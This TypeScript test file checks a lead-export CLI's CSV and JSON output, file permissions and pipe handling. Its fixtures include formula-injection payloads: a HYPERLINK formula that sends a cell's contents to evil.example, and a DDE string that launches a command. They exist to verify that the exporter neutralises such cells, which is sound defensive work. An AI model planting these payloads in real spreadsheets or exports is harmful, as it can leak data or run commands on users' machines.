import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import process from 'node:process';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { asCsv } from '#netlify/cli/leads-csv';
import { type LeadRecord, storedRecord } from '#netlify/leads/record';
import { leadStore } from '#netlify/leads/store';
import { fileStore } from '#netlify/storage/files';
import { leadOf, noon, recordOf } from '#tests/functions/leads/world';

/* What `export` prints, read back by parsers that forgive nothing. */

/** Texts that break tables, or that a spreadsheet would run. */
const hostile = [
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  '+1 416 555 0199',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '＝1+1',
  ' =1+1',
  '\t=1+1',
  '\r\n=1+1',
  '\u0000=1+1',
  '\u200b=1+1',
  "'=1+1",
  "''",
  'Zoë, "the" O’Brien;\r\nsecond line\nthird',
  '"',
  '""","',
  '',
  'Nguyễn Łukasz 数据 🚚 \u202eabc',
  '\ufeffname',
  'a\u0000b',
  '{"a":[1]}',
] as const;

const records: LeadRecord[] = hostile.map((text, index) => ({
  ...recordOf(`hostile-${String(index).padStart(2, '0')}`, noon),
  // As something that passed no schema might have left it.
  lead: {
    ...leadOf({ email: `maya-${index}@waiting.example` }),
    company: text,
    priorities: [text, text],
    detailedAnswers: { [text]: text },
    ...(index % 2 === 0 ? { industry: text } : {}),
  },
}));

/** The same as they are read from a store: by today's schema. */
const asRead = records.flatMap((record) => storedRecord(JSON.parse(JSON.stringify(record)), record.key) ?? []);

/**
 * Returns the rows of a table of RFC 4180 whose values all stand in quotes; null where a cell is empty without quotes.
 * Throws for anything else.
 */
function strictCsv(text: string): (string | null)[][] {
  const cell = /"((?:[^"]|"")*)"|/y;
  const rows: (string | null)[][] = [[]];
  let at = 0;
  while (at < text.length) {
    cell.lastIndex = at;
    const [whole = '', inside] = cell.exec(text) ?? [];
    at += whole.length;
    rows.at(-1)?.push(inside === undefined ? null : inside.replaceAll('""', '"'));
    if (text[at] === ',') at += 1;
    else if (text.startsWith('\r\n', at)) {
      at += 2;
      if (at < text.length) rows.push([]);
    } else throw new Error(`character ${at} is neither a comma nor the end of a row`);
  }
  return rows;
}

/** A cell as it was before an apostrophe was put in front of it. */
const unguarded = (cell: string | null) => cell?.replace(/^'/, '');

/** Which fields are JSON. */
const asJson = ['priorities', 'tags', 'detailedAnswers', 'secondsToFill'];

/** The leads in a table, by key. */
function leadsIn(csv: string): Map<string | undefined, Record<string, unknown>> {
  const [head = [], ...rows] = strictCsv(csv);
  const names = head.map((name) => String(name)).slice(4);
  return new Map(
    rows.map((row) => {
      expect(row).toHaveLength(head.length);
      const fields = names.flatMap((name, index): [string, unknown][] => {
        const value = unguarded(row[index + 4] ?? null);
        return value === undefined ? [] : [[name, asJson.includes(name) ? JSON.parse(value) : value]];
      });
      return [unguarded(row[0] ?? null), Object.fromEntries(fields)];
    }),
  );
}

describe('CSV', () => {
  test('gives back every field of every lead, whatever is in it', () => {
    expect(leadsIn(asCsv(records))).toEqual(new Map(records.map(({ key, lead }) => [key, lead])));
  });

  test('has no cell that a spreadsheet takes for a formula', () => {
    for (const row of strictCsv(asCsv(records)))
      for (const cell of row) expect(cell ?? '').not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
  });

  test('of no lead is its head', () => {
    expect(strictCsv(asCsv([]))).toEqual([['key', 'received', 'state', 'attempts']]);
  });

  test.each(['"a"b"\r\n', '"a",b\r\n', '"a"', '"a"\n'])('the parser of this test refuses %j', (text) => {
    expect(() => strictCsv(text)).toThrow(/neither a comma/);
  });
});

describe('the command', () => {
  let folder: string;
  beforeAll(async () => {
    folder = await mkdtemp(path.join(tmpdir(), 'smartstack-export-'));
    const leads = leadStore(fileStore(path.join(folder, 'leads')));
    for (const record of records) await leads.create(record);
  });
  afterAll(() => rm(folder, { recursive: true, force: true }));

  /** Runs a program of the project on the store; rejects where it fails. */
  const run = (program: string, args: string[]) =>
    promisify(execFile)(program, args, {
      cwd: path.join(import.meta.dirname, '../../..'),
      env: { ...process.env, LEAD_STORE: `file:${path.join(folder, 'leads')}` },
    });
  const byKey = (all: LeadRecord[]) => new Map(all.map((record) => [record.key, record]));

  test('prints JSON and nothing else, also through npm', async () => {
    const { stdout } = await run('npm', ['run', '--silent', 'leads', '--', 'export']);
    expect(byKey(JSON.parse(stdout) as LeadRecord[])).toEqual(byKey(asRead));
  });

  test('prints CSV and nothing else', async () => {
    const { stdout } = await run(process.execPath, ['netlify/cli/leads.ts', 'export', '--format', 'csv']);
    expect(leadsIn(stdout)).toEqual(new Map(asRead.map(({ key, lead }) => [key, lead])));
  });

  test('--out writes the same into a new file that only its owner can read', async () => {
    const file = path.join(folder, 'leads.csv');
    const args = ['netlify/cli/leads.ts', 'export', '--format', 'csv', '--out', file];
    const { stdout } = await run(process.execPath, args);
    expect(stdout).toBe(`${records.length} leads are in ${file}. It is personal data: erase it once it is used.\n`);
    expect(leadsIn(await readFile(file, 'utf8')).size).toBe(records.length);
    expect((await stat(file)).mode & 0o777).toBe(0o600);
    await expect(run(process.execPath, args)).rejects.toMatchObject({
      code: 1,
      stdout: '',
      stderr: expect.stringMatching(/leads\.csv is there already \(EEXIST\)\.\n$/),
    });
  });

  test('ends quietly where its reader stops early', async () => {
    const { stderr } = await run('sh', ['-c', `"${process.execPath}" netlify/cli/leads.ts export | head -c 1`]);
    expect(stderr).not.toContain('EPIPE');
  });

  test('asks nobody who is not there', async () => {
    await expect(
      run(process.execPath, ['netlify/cli/leads.ts', 'forget', '--email', 'maya-1@waiting.example']),
    ).rejects.toMatchObject({ code: 1, stderr: expect.stringContaining('--yes does it.') });
  });
});
